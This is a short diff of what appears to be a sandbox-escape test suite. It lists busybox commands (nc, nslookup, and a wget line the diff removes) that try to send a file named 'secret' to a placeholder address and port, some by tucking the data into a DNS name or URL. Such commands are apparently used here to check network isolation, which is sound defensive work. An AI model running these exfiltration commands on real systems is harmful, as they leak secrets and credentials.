@@ -104,7 +104,6 @@ except OSError: print("nobody")`;
           ),
         ),
         shell("busybox nc", `busybox nc -w 20 ${ADDRESS} ${PORT} < secret`),
-        shell("busybox wget", `busybox wget -T 20 -O - "http://${ADDRESS}:${PORT}/$(cat secret)"`),
         shell("busybox nslookup", `timeout 20 busybox nslookup "$(cat secret).example.org" ${ADDRESS}`),
         shell(
           "busybox tftp, telnet, ftpput",
